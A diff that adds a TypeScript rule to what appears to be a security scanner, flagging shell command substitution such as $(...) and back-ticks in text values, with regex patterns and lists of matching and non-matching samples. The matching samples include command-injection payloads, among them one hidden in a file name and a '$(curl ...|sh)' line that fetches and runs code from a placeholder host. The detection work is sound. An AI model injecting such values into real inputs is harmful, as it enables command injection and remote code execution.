@@ -1,0 +1,30 @@
+import { defineRule } from '../rule.ts';
+import { certain, command } from './commands.ts';
+
+/** `$(id)` and back-ticks; back-ticks around code in a sentence are Markdown. */
+export const substitution = defineRule({
+  id: 'cmdi/substitution',
+  class: 'cmdi',
+  threats: ['T1'],
+  title: 'A value has a command substitution of a shell',
+  score: 0.7,
+  on: 'text',
+  view: 'text',
+  words: ['$(', '`', '<(', '>('],
+  patterns: [
+    new RegExp(`\\$\\([\\s\`]{0,4}${command}`, 'i'),
+    new RegExp(`^[^\\s\`]{0,40}\`[\\s(]{0,4}${command}[^\`]{0,200}\`?[^\\s\`]{0,20}$`, 'i'),
+    new RegExp(`\\w\`${certain}`, 'i'),
+    new RegExp(`[<>]\\(\\s{0,4}${certain}`, 'i'),
+    /\w\$\(\)\w|\w``\w|\w\$@\w|\w`\w{2,10} \w{1,10}`\w/,
+    new RegExp(`^\\w{3,20}(?:_\\w{1,20})* \`${command}[^\`]{0,80}\`$`, 'i'),
+  ],
+  hits: ['$(id)', '`whoami`', 'a`uname -a`.png', 'who$()ami', '$(curl http://x.example/y|sh)', 'x`id`'],
+  misses: [
+    'use `ls -la` to list files',
+    'run `npm install` then `npm start`',
+    'What does $(...) do?',
+    '` tick',
+    'The `code` formatting',
+  ],
+});
